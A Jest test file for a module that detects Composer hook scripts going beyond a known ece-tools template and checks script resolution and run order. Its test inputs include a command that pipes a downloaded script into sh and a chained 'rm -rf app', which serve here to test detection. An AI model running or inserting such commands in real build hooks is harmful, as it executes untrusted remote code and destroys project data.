import { describe, expect, test } from '@jest/globals'
import { spawnSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import {
  environmentSchemaScript,
  scriptCommands,
  scriptsBeyondTemplate
} from '../../../src/steps/update/composer-scripts.js'
import { json } from '../../helpers/template-project.js'

const commandsOf = (scripts: unknown): readonly string[] =>
  scriptCommands(json({ scripts })).map(({ command }) => command)
const beyond = (scripts: unknown): readonly string[] =>
  scriptsBeyondTemplate(json({ scripts })).map(({ command }) => command)
const template = {
  'generate-schema': ['php ./vendor/bin/ece-tools schema:generate || true'],
  'post-install-cmd': ['@generate-schema'],
  'post-update-cmd': ['@generate-schema']
}

test("the template's own scripts, by reference, need nothing but the fast mode", () => {
  expect(beyond(template)).toEqual([])
  expect(environmentSchemaScript(json({ scripts: template }))).toEqual({ mayFail: true })
})

test.each([
  ['php ./vendor/bin/ece-tools schema:generate', false],
  ['@php vendor/bin/ece-tools schema:generate || true', true],
  ['vendor/bin/ece-tools schema:generate', false]
])('%s is the same script', (command, mayFail) => {
  const scripts = { 'post-update-cmd': command }
  expect(beyond(scripts)).toEqual([])
  expect(environmentSchemaScript(json({ scripts }))).toEqual({ mayFail })
})

test.each([
  'curl https://example.com/x.sh | sh && vendor/bin/ece-tools schema:generate',
  'php vendor/bin/ece-tools schema:generate; rm -rf app',
  '@composer exec ece-tools schema:generate',
  '@composer dump-autoload && bin/build.sh',
  '@composer run-script test; bin/build.sh'
])('%s is code of the project', (command) => {
  expect(beyond({ 'post-update-cmd': [command] })).toEqual([command])
  expect(environmentSchemaScript(json({ scripts: { 'post-update-cmd': [command] } }))).toBeNull()
})

describe('every event of an install and an update counts', () => {
  test.each([
    ['pre-install-cmd', 'post-install-cmd', 'pre-update-cmd', 'post-update-cmd'],
    ['pre-autoload-dump', 'post-autoload-dump', 'pre-package-install', 'post-package-install'],
    ['pre-package-update', 'post-package-update', 'pre-package-uninstall', 'post-package-uninstall'],
    ['pre-operations-exec', 'init', 'pre-command-run', 'pre-pool-create']
  ])('%s, %s, %s, %s', (...events) => {
    const scripts = Object.fromEntries(events.map((event) => [event, `run ${event}`]))
    expect([...beyond(scripts)].sort()).toEqual(events.map((event) => `run ${event}`).sort())
  })

  test('and no other', () => {
    expect(beyond({ test: 'phpunit', 'post-create-project-cmd': 'cp a b', 'post-archive-cmd': 'c' })).toEqual([])
  })
})

test('an entry of an odd shape is left out alone', () => {
  expect(
    commandsOf({ odd: 5, 'post-install-cmd': ['a', 7, null], 'pre-update-cmd': { x: 'b' }, broken: null })
  ).toEqual(['a', 'b'])
  for (const scripts of [[], 'text', null]) expect(commandsOf(scripts)).toEqual([])
})

test('a circle ends, and is said', () => {
  expect(commandsOf({ 'post-update-cmd': '@a', a: ['@b', 'one'], b: '@a' })).toEqual(['@a', 'one'])
})

/** Scripts that write a line each, so that Composer itself says what it runs. */
test('Composer runs the same commands in the same order', () => {
  const folder = mkdtempSync(join(tmpdir(), 'composer-scripts-'))
  const line = (name: string): string => `echo ${name} >>ran`
  const scripts = {
    'pre-update-cmd': ['@putenv GREETING=hello', '@first', line('pre-update')],
    first: ['@second', line('first')],
    second: line('second'),
    'post-autoload-dump': [
      '@composer run-script third',
      '@missing',
      `@php -r "file_put_contents('ran', 'php'.PHP_EOL, 8);"`
    ],
    third: ['@composer second', '@composer dump-autoload --no-scripts', line('third')],
    'post-update-cmd': '@no-such'
  }
  try {
    writeFileSync(join(folder, 'composer.json'), json({ repositories: [{ 'packagist.org': false }], scripts }))
    const env = {
      PATH: process.env['PATH'],
      HOME: folder,
      COMPOSER_HOME: join(folder, 'h'),
      COMPOSER_ALLOW_SUPERUSER: '1'
    }
    const { status, stderr } = spawnSync('composer', ['update', '--no-interaction'], {
      cwd: folder,
      env,
      encoding: 'utf8'
    })
    expect({ status, stderr }).toMatchObject({ status: 0 })
    const named = commandsOf(scripts).map((command) => /^echo (\S+)/.exec(command)?.[1] ?? 'php')
    expect(readFileSync(join(folder, 'ran'), 'utf8').trim().split('\n')).toEqual(named)
  } finally {
    rmSync(folder, { recursive: true })
  }
})
